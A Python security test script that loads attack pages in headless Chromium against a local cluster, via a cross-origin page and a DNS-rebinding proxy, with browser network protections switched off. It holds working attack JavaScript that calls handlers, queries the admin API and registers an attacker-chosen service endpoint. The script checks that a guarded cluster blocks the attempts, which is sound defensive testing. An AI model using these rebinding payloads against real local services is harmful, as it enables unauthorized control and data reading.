#!/usr/bin/env python3
"""What a web page in a real browser can do to a native cluster: nothing where a guard is at its ports, and more where nodes listen there.

    CLASSIFY=target/release/classify scripts/browser.py

Chromium loads two pages. One has an origin of its own and asks the ports of this machine. The other has a name that first led to its own server
and then to the port of a node (DNS rebinding); a proxy plays the name server. Both try to call a handler, to read an output, to register a
service, to change a limit and to leave an answer under a key. What arrived is asked from the cluster itself. The same pages are loaded beside a
cluster without a guard, to show that the attacks work. Needs Chromium (Debian: chromium-headless-shell)."""

import http.client
import http.server
import json
import os
import pathlib
import shutil
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

CLASSIFY = pathlib.Path(os.environ["CLASSIFY"]).resolve()
BROWSERS = ["chromium-headless-shell", "chromium", "chromium-browser", "google-chrome"]
EVIL = "evil.example"

# Each attempt says what it saw; `no` is what a browser or a server without permission leaves of it.
PAGE = """<!doctype html><title>attack</title><pre id=result>unfinished</pre><script>
const [ingress, admin] = [%(ingress)s, %(admin)s];
const seen = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen[name] = answer.type === "opaque" ? "sent" : answer.status + " " + (await answer.text()).slice(0, 60).replace(/[^ -~]/g, "?");
  } catch (error) { seen[name] = "no"; }
}
const text = (body, more) => ({ method: "POST", body, headers: { "content-type": "text/plain" }, ...more });
const json = (body) => ({ method: "POST", body: JSON.stringify(body), headers: { "content-type": "application/json" } });
(async () => {
  await attempt("call", ingress + "/restate/send/ClassifyBatch/%(key)s/run", text("{}", { mode: "no-cors" }));
  await attempt("limit", ingress + "/restate/send/ModelLimits/evil%%2F%(key)s/set", text("{}", { mode: "no-cors" }));
  await attempt("answer", ingress + "/restate/send/Classifier/info", { method: "POST", headers: { "idempotency-key": "%(key)s" } });
  await attempt("health", ingress + "/restate/health");
  await attempt("version", admin + "/version");
  await attempt("query", admin + "/query", json({ query: "select id from sys_invocation" }));
  await attempt("register", admin + "/deployments", json({ uri: "http://127.0.0.1:%(port)d/" }));
  await attempt("register in text", admin + "/deployments", text('{"uri":"http://127.0.0.1:%(port)d/"}', { mode: "no-cors" }));
  await new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = ingress + "/restate/send/Classifier/info?%(key)s"; });
  document.getElementById("result").textContent = JSON.stringify(seen);
})();
</script>"""


class Attacker(http.server.BaseHTTPRequestHandler):
    """Serves the page under its own name; as a proxy it leads that name to a node's port once the page is there."""

    protocol_version = "HTTP/1.0"
    page, rebound_to = "", set()

    def do_GET(self):
        name, _, path = self.path.removeprefix("http://").partition("/")
        port = int(name.partition(":")[2] or 80)
        if self.path.startswith("http://") and path != "attack" and port in Attacker.rebound_to:
            return self.relay(port, "/" + path)
        if path == "attack" or self.path == "/attack":
            body = Attacker.page.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)
            return None
        self.send_error(404)
        return None

    do_POST = do_OPTIONS = do_GET

    def relay(self, port, path):
        """The request as a browser sends it to a name that leads to 127.0.0.1."""
        length = int(self.headers.get("content-length", 0))
        node = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
        node.putrequest(self.command, path, skip_host=True, skip_accept_encoding=True)
        for header, value in self.headers.items():
            if header.lower() not in ("proxy-connection", "connection"):
                node.putheader(header, value)
        node.endheaders(self.rfile.read(length))
        answer = node.getresponse()
        body = answer.read()
        self.send_response(answer.status)
        for header, value in answer.getheaders():
            if header.lower() not in ("transfer-encoding", "connection", "content-length"):
                self.send_header(header, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_words):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


def browser(profile, url, proxy):
    """The page's DOM after its script has ended."""
    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    if program is None:
        sys.exit("no Chromium: apt-get install chromium-headless-shell")
    # What Chromium itself does for a user against such pages is not what is tested: it can be switched off, and other browsers lack it.
    off = "LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"
    args = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={profile}", f"--disable-features={off}"]
    args += [f"--proxy-server=http://127.0.0.1:{proxy}", "--virtual-time-budget=60000", "--timeout=60000", "--dump-dom", url]
    done = subprocess.run([program, *args], capture_output=True, text=True, timeout=180)
    start, _, rest = done.stdout.partition("<pre id=\"result\">")
    result = rest.partition("</pre>")[0].replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
    if not result.startswith("{"):
        sys.exit(f"the browser did not run the page: {done.stdout[:2000]}\n{done.stderr[-2000:]}")
    return json.loads(result)


class Cluster:
    """A cluster of three nodes in a folder of its own, with the service."""

    def __init__(self, home, listen):
        self.env = {name: value for name, value in os.environ.items() if not name.startswith("CLASSIFY_") or name == "CLASSIFY_CACHE"}
        self.env |= {"CLASSIFY_HOME": home, "CLASSIFY_RUNTIME": "native", "CLASSIFY_CLUSTER": listen}
        self.classify("cluster", "start", "--name", listen, "--ports", "auto", "--listen", listen)
        self.folder = pathlib.Path(home) / "cluster" / listen
        self.nodes = json.loads((self.folder / "cluster.json").read_text())["nodes"]
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        words = [CLASSIFY, "-q", "serve", "--bind", f"127.0.0.1:{port}"]
        self.service = subprocess.Popen(words, env=self.env)
        deadline = time.monotonic() + 30
        while socket.socket().connect_ex(("127.0.0.1", port)) != 0:
            if time.monotonic() > deadline:
                sys.exit("the service does not listen")
            time.sleep(0.05)
        self.classify("cluster", "register", f"http://127.0.0.1:{port}", "--name", listen)

    def classify(self, *words):
        return subprocess.run([CLASSIFY, "-q", *words], env=self.env, check=True, capture_output=True, text=True).stdout

    def port(self, purpose):
        return self.nodes[0]["ports"][purpose]

    def arrived(self, key):
        """Invocations with the key of an attack, and registered endpoints: as the cluster's own user sees them."""
        admin = f"http://127.0.0.1:{self.port('admin')}"
        query = "select target, idempotency_key from sys_invocation"
        asked = urllib.request.Request(f"{admin}/query", json.dumps({"query": query}).encode(), {"content-type": "application/json", "accept": "application/json"})
        rows = json.load(urllib.request.urlopen(asked, timeout=20))["rows"]
        invocations = sorted(row["target"] for row in rows if key in row["target"] or row.get("idempotency_key") == key)
        deployments = len(json.load(urllib.request.urlopen(f"{admin}/deployments", timeout=20))["deployments"])
        return invocations, deployments

    def end(self):
        self.service.terminate()
        self.service.wait()
        self.classify("cluster", "clean", "--yes")


def attack(cluster, attacker, scratch, rebound):
    """What a page saw, and what arrived."""
    key = f"{'REBOUND' if rebound else 'PAGE'}0{cluster.env['CLASSIFY_CLUSTER'].upper()}"
    ports = {name: cluster.port(name) for name in ("ingress", "admin")}
    host = EVIL if rebound else "127.0.0.1"
    urls = {name: json.dumps(f"http://{host}:{port}") for name, port in ports.items()}
    Attacker.page = PAGE % {**urls, "key": key, "port": attacker}
    Attacker.rebound_to = set(ports.values()) if rebound else set()
    # The page of a rebound name has the node's own port: it asks there as its own origin.
    seen = {}
    for port in ([ports["ingress"], ports["admin"]] if rebound else [80]):
        profile = tempfile.mkdtemp(dir=scratch)
        for name, what in browser(profile, f"http://{EVIL}:{port}/attack", attacker).items():
            # Of the two ports only one is the page's own origin; the better of both is what the page got.
            seen[name] = what if seen.get(name, "no") in ("no", "sent") else seen[name]
    return seen, *cluster.arrived(key)


def main():
    with tempfile.TemporaryDirectory() as scratch:
        server = Server(("127.0.0.1", 0), Attacker)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        attacker = server.server_address[1]
        problems = []
        for listen in ["unix", "tcp"]:
            home = pathlib.Path(scratch) / listen
            home.mkdir()
            cluster = Cluster(str(home), listen)
            try:
                for rebound in [False, True]:
                    seen, invocations, deployments = attack(cluster, attacker, scratch, rebound)
                    what = f"{listen}, {'a rebound name' if rebound else 'a page of another origin'}"
                    print(f"{what}: {json.dumps(seen)}; arrived {invocations}, {deployments} deployments", flush=True)
                    read = [name for name, said in seen.items() if said.startswith("200")]
                    if listen == "unix" and (read or invocations or deployments != 1):
                        problems.append(f"{what} got through the guard")
                    # Attacks that do nothing anywhere would prove nothing.
                    if listen == "tcp" and not invocations:
                        problems.append(f"{what}: no call arrived, and nothing stood in its way")
                    if listen == "tcp" and rebound and not ("version" in read and "query" in read and seen["register"].startswith("500")):
                        # 500: the node asked the attacker's server for its services, which it does not have.
                        problems.append(f"{what}: nothing was read, and nothing stood in its way")
            finally:
                cluster.end()
        server.shutdown()
    if problems:
        sys.exit("\n".join(problems))
    print("a browser's pages reach nothing behind the guard, and reach nodes without one")


if __name__ == "__main__":
    main()
